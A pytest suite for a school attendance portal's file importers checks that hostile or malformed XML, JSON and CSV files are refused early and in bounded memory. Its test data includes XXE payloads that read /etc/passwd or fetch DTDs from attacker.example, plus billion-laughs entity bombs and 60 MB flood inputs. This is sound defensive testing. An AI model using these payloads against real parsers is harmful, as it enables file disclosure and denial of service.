"""Hostile and broken files are refused in one sentence, early and in bounded memory (abuse cases 18, 54, 55; R28)."""

import io
import subprocess
import sys
from collections import deque
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import BinaryIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.attendance_plugin.register.importers import FORMATS
from portal.attendance_plugin.register.importers.findings import Findings
from portal.attendance_plugin.register.importers.formats import Holds
from portal.attendance_plugin.register.importers.known import Known
from portal.attendance_plugin.register.importers.problems import FileRefused
from tests.attendance_plugin.register.importers.floods import flood

SAMPLES = Path(__file__).parent / "samples"
KNOWN = Known(today=date(2026, 11, 27), school_number="9992001", class_names=("Oak",))
SIMS = b"<SessionAttendances><SessionAttendance>"
SIMS_END = b"</SessionAttendance></SessionAttendances>"
CTF = b"<CTfile><Header/><CTFpupilData><Pupil>"
LAUGHS = "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(9))
DEFINES = "The file defines a document type or entities"
TRUNCATED = "It may have been cut off on its way."


def read(slug: str, file: BinaryIO | bytes) -> Findings:
    """Open and read to the end, as an import does."""
    chosen, findings = FORMATS[slug], Findings()
    source = chosen.open(io.BytesIO(file) if isinstance(file, bytes) else file, chosen.caps)
    rows = source.marks(KNOWN, findings) if chosen.holds is Holds.MARKS else source.roll(KNOWN, findings)
    deque(rows, maxlen=0)
    return findings


def refusal(slug: str, file: BinaryIO | bytes) -> str:
    with pytest.raises(FileRefused) as refused:
        read(slug, file)
    return str(refused.value)


# Abuse case 54: definitions of a document type, however the letters are written and wherever the pieces are cut.
DEFINITIONS = {
    "file of the machine": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "address on the network": '<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd">',
    "parameter entity": '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://attacker.example/a.dtd"> %x;]>',
    "billion laughs": f'<!DOCTYPE a [<!ENTITY a0 "ha">{LAUGHS}]>',
    "quadratic blow-up": f'<!DOCTYPE a [<!ENTITY a "{"a" * 50_000}">]>',
    "empty": "<!DOCTYPE a>",
    "small letters": "<!doctype a>",
    "across two pieces": " " * (65_536 - 4) + "<!DOCTYPE a>",
}


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
@pytest.mark.parametrize("definition", DEFINITIONS.values(), ids=DEFINITIONS)
@pytest.mark.parametrize("slug", ["sims-xml", "ctf-xml"])
def test_definitions_are_refused_before_any_parser_sees_them(slug: str, definition: str, encoding: str) -> None:
    text = f"<!-- -->{definition}<SessionAttendances><SessionAttendance>&a9;</SessionAttendance></SessionAttendances>"
    assert refusal(slug, text.encode(encoding)).startswith(DEFINES)


@pytest.mark.parametrize("encoding", ["utf-7", "utf-32", "utf-32-le", "cp037", "utf-16"])
def test_definitions_cannot_hide_in_other_letters(encoding: str) -> None:
    text = '<?xml version="1.0" encoding="%s"?><!DOCTYPE a><SessionAttendance></SessionAttendance>'
    told = refusal("sims-xml", (text % encoding).encode(encoding))
    assert told.startswith(
        (DEFINES, "The file says it is written in utf-7.", "The file is written in UTF-32.", "The file does not begin")
    )


@pytest.mark.parametrize(
    ("declared", "written", "told"),
    [
        ("utf-16", "utf-8", "The file says it is written in utf-16, but its bytes are not UTF-16"),
        ("utf-8", "utf-16", "The file says it is written in utf-8, but its bytes are UTF-16"),
        ("utf-8", "utf-16-le", "The file says it is written in utf-8, but its bytes are UTF-16"),
        ("iso-8859-1", "utf-8-sig", "The file says it is written in iso-8859-1, but its bytes are UTF-8"),
        ("utf-8", "cp1252", "The file's letters cannot be read as UTF-8"),
        ("us-ascii", "utf-8", "The file's letters cannot be read as ASCII"),
        ("big5", "utf-8", "The file says it is written in big5. Accepted: UTF-8, UTF-16, ISO 8859-1"),
        ("unicode_escape", "utf-8", "The file says it is written in unicode_escape."),
    ],
)
def test_an_encoding_that_contradicts_itself_is_refused(declared: str, written: str, told: str) -> None:
    text = f'<?xml version="1.0" encoding="{declared}"?><a><SessionAttendance>Zoë</SessionAttendance></a>'
    assert refusal("sims-xml", text.encode(written)).startswith(told)


BROKEN = {
    "nothing": ("sims-xml", b"", "The file is empty."),
    "spaces": ("wonde-marks", b" \n\t ", "The file is empty."),
    "zero characters": ("sims-xml", SIMS + b"\0" + SIMS_END, "The file has zero characters in it"),
    "zero in JSON": ("wonde-marks", b'{"data": ["\0"]}', "The file has zero characters in it"),
    "no XML": ("sims-xml", b"UPN,Date,Session,Code\n", "The file does not begin with '<'"),
    "no JSON": ("wonde-marks", b"<a/>", "The file does not begin with '{' or '['"),
    "other XML": ("sims-xml", b"<CTfile/>", "The file has no SessionAttendance element."),
    "other root": ("ctf-xml", b"<a><b/></a>", "The file's outermost element is 'a'. Accepted: CTfile."),
    "no header": ("ctf-xml", b"<CTfile></CTfile>", "The file has no Header"),
    "two headers": ("ctf-xml", b"<CTfile><Header/><Header/></CTfile>", "The file has two Headers."),
    "pupil first": ("ctf-xml", b"<CTfile><Pupil/><Header/></CTfile>", "The file has a pupil before its Header."),
    "two roots": ("sims-xml", SIMS + SIMS_END + b"<a/>", "The file is not well-formed XML (junk after document"),
    "unknown entity": ("sims-xml", SIMS + b"&x;" + SIMS_END, "The file is not well-formed XML (undefined entity"),
    "one attribute twice": ("sims-xml", SIMS + b"<a b='' b=''/>" + SIMS_END, "The file is not well-formed XML (dup"),
    "one element twice": (
        "sims-xml",
        SIMS + b"<PersonID>1</PersonID><PersonID>2</PersonID>" + SIMS_END,
        "SessionAttendance 1 has two PersonID elements.",
    ),
    "one code explained twice": (
        "sims-xml",
        SIMS + b"<a/></SessionAttendance>"
        b"<AttendanceCode><Code>X1</Code><Statutory_Return_Code>L</Statutory_Return_Code></AttendanceCode>"
        b"<AttendanceCode><Code>X1</Code><Statutory_Return_Code>U</Statutory_Return_Code></AttendanceCode>"
        b"</SessionAttendances>",
        "The file's list of codes explains 'X1' twice, as L and as U.",
    ),
    "something after the end": ("wonde-marks", b'[{"session": "AM", "date": "x"}] {}', "The file is not well-formed"),
    "a name twice": ("wonde-marks", b'[{"date": 1, "date": 2}]', "One object of the file names 'date' twice"),
    "a page's name twice": ("wonde-marks", b'{"data": [], "data": []}', "One object of the file names 'data' twice"),
    "not a number": ("wonde-marks", b'[{"date": NaN}]', "The file holds NaN"),
    "infinity": ("wonde-marks", b'[{"date": -Infinity}]', "The file holds -Infinity"),
    "a list in a list": ("wonde-marks", b'{"data": [[]]}', "A list of records is nested deeper"),
    "no records": ("wonde-marks", b'{"data": [1]}', "Record 1 is no object"),
    "no marks": ("wonde-marks", b'{"data": [{"a": 1}]}', "The file has no record with a session and a date."),
    "no pupils": ("wonde-pupils", b'{"data": [{"a": 1}]}', "The file has no record with a forename and a surname."),
    "marks, not pupils": ("wonde-pupils", b'[{"date": "", "session": ""}]', "The file holds session attendance."),
}


@pytest.mark.parametrize(("slug", "content", "told"), BROKEN.values(), ids=BROKEN)
def test_a_broken_file_is_refused_in_a_sentence_that_says_what_it_is(slug: str, content: bytes, told: str) -> None:
    assert refusal(slug, content).startswith(told)


@pytest.mark.parametrize(
    ("values", "accepted"),
    [
        ('"minutes_late": %s' % ("9" * 5_000), "at most 1,000 characters"),
        ('"student": {"data": [1]}', "one text or number"),
        ('"attendance_code": [["/"]]', "one text or number"),
        ('"date": {"date": ["2026-09-14"]}', "one text or number"),
    ],
)
def test_values_of_a_wrong_kind_are_refused_with_their_record(values: str, accepted: str) -> None:
    names = ("session", "date", "student")
    rest = ", ".join(f'"{name}": ""' for name in names if f'"{name}"' not in values)
    findings = read("wonde-marks", f"[{{{values}, {rest}}}]".encode())
    assert [(error.row, error.column, error.accepted) for error in findings.errors] == [(1, "record", accepted)]


@pytest.mark.parametrize(
    "name", ["sims-marks.xml", "ctf-year-data.xml", "wonde-attendance.json", "wonde-students.json"]
)
def test_a_file_cut_off_anywhere_is_refused(name: str) -> None:
    slug = {"s": "sims-xml", "c": "ctf-xml", "wonde-a": "wonde-marks", "wonde-s": "wonde-pupils"}
    chosen = next(format for start, format in reversed(slug.items()) if name.startswith(start))
    whole = (SAMPLES / name).read_bytes().rstrip()
    for length in range(0, len(whole) - 1, 7):
        refusal(chosen, whole[:length])


@given(
    name=st.sampled_from(sorted(path.name for path in SAMPLES.iterdir() if path.suffix in {".xml", ".json"})),
    place=st.floats(0, 1),
    put=st.binary(max_size=6),
    drop=st.integers(0, 6),
)
def test_any_damage_gives_findings_or_a_refusal_and_nothing_else(
    name: str, place: float, put: bytes, drop: int
) -> None:
    content = (SAMPLES / name).read_bytes()
    at = int(place * len(content))
    damaged = content[:at] + put + content[at + drop :]
    for slug in ("sims-xml", "ctf-xml", "wonde-marks", "wonde-pupils"):
        try:
            findings = read(slug, damaged)
        except FileRefused:
            continue
        assert all(str(error) for error in findings.errors)


MARK = b'{"student": "1", "date": "2026-09-14", "session": "AM", "attendance_code": "/"}'
LARGE: dict[str, tuple[str, Callable[[], BinaryIO], str]] = {
    "attribute of 60 MB": ("sims-xml", lambda: flood(SIMS + b"<a b='", b">", 60, b"'/>" + SIMS_END), "has a tag"),
    "a million attributes": ("sims-xml", lambda: flood(SIMS + b"<a ", b"b='' ", 60, b"/>" + SIMS_END), "has a tag"),
    "comment of 60 MB": ("sims-xml", lambda: flood(SIMS + b"<!--", b"x", 60, b"-->" + SIMS_END), "has a tag"),
    "instruction of 60 MB": ("ctf-xml", lambda: flood(CTF + b"<?a ", b"x", 60, b"?>"), "has a tag"),
    "gap of 60 MB": ("sims-xml", lambda: flood(SIMS + SIMS_END, b" ", 60), "has a tag"),
    "cell of 60 MB": ("sims-xml", lambda: flood(SIMS + b"<a>", b"x", 60, b"</a>" + SIMS_END), "more than 1,000 char"),
    "cell of 60 MB, marked": ("ctf-xml", lambda: flood(CTF + b"<A><![CDATA[", b"x", 60), "more than 10,000 char"),
    "a million levels": ("sims-xml", lambda: flood(SIMS, b"<a>", 60, SIMS_END), "more than 16 deep"),
    "one record for ever": ("sims-xml", lambda: flood(SIMS, b"<a/>", 60, SIMS_END), "more than 5,000 elements"),
    "no record for ever": ("sims-xml", lambda: flood(b"<a>", b"<b/>", 60, SIMS + SIMS_END), "more than 100,000 elem"),
    "pupils for ever": ("ctf-xml", lambda: flood(CTF + b"</Pupil>", b"<Pupil/>", 60), "more than 5,000 records"),
    "larger than any": ("ctf-xml", lambda: flood(CTF, b"<a>x</a>", 70), "larger than 64 MB"),
    "a million lists": ("wonde-marks", lambda: flood(b"", b"[", 60), "nested deeper"),
    "a million objects": ("wonde-marks", lambda: flood(b"", b'{"data":', 60), "nested deeper"),
    "a million lists in a record": ("wonde-marks", lambda: flood(b'[{"a":', b"[", 60), "nested deeper"),
    "text of 60 MB": ("wonde-marks", lambda: flood(b'[{"a":"', b"x", 60, b'"}]'), "longer than 65,536 characters"),
    "number of 60 MB": ("wonde-marks", lambda: flood(b'[{"a":', b"9", 60, b"}]"), "longer than 65,536 characters"),
    "name of 60 MB": ("wonde-marks", lambda: flood(b'{"', b"x", 60, b'":1}'), "longer than 65,536 characters"),
    "gap in JSON": ("wonde-marks", lambda: flood(b'[{"a":1}', b" ", 60, b"]"), "no record with a session"),
    "marks for ever": (
        "sims-xml",
        lambda: flood(SIMS, b"</SessionAttendance><SessionAttendance>", 60),
        "1,000,000 rec",
    ),
    "marks in JSON for ever": ("wonde-marks", lambda: flood(b"[" + MARK, b"," + MARK, 90), "more than 1,000,000 rec"),
    "pages for ever": ("wonde-marks", lambda: flood(b'[{"data":[]}', b',{"data":[]}', 60, b"]"), "10,000 pages"),
    "pupils in JSON for ever": (
        "wonde-pupils",
        lambda: flood(b'[{"forename":""}', b',{"forename":""}', 60, b"]"),
        "more than 50,000 records",
    ),
    "rows for ever": (
        "marks-csv",
        lambda: flood(b"UPN,Date,Session,Code\n", b"A,B,C,D\n", 60),
        "more than 1,000,000 rows",
    ),
    "columns for ever": ("marks-csv", lambda: flood(b"UPN,", b"a,", 60), "more than 64,000 characters"),
    "cell of a table": ("marks-csv", lambda: flood(b"UPN,Date,Session,Code\n", b"x", 60), "more than 64,000 char"),
}


@pytest.mark.parametrize(("slug", "make", "told"), LARGE.values(), ids=LARGE)
def test_a_large_hostile_file_is_refused(slug: str, make: Callable[[], BinaryIO], told: str) -> None:
    assert told in refusal(slug, make())


MEASURE = """
import resource, sys
from tests.attendance_plugin.register.importers.test_hostile import LARGE, FileRefused, read
read("sims-xml", b"<a><SessionAttendance><b/></SessionAttendance></a>")
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
for slug, make, told in LARGE.values():
    try:
        read(slug, make())
    except FileRefused:
        pass
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)
"""
MEGABYTE = 1024 if sys.platform.startswith("linux") else 1 << 20


@pytest.mark.heavy
def test_all_hostile_files_together_take_little_memory() -> None:
    root = Path(__file__).parents[4]
    run = subprocess.run([sys.executable, "-c", MEASURE], cwd=root, capture_output=True, text=True, check=False)
    assert run.returncode == 0, run.stderr
    assert int(run.stdout) / MEGABYTE < 40
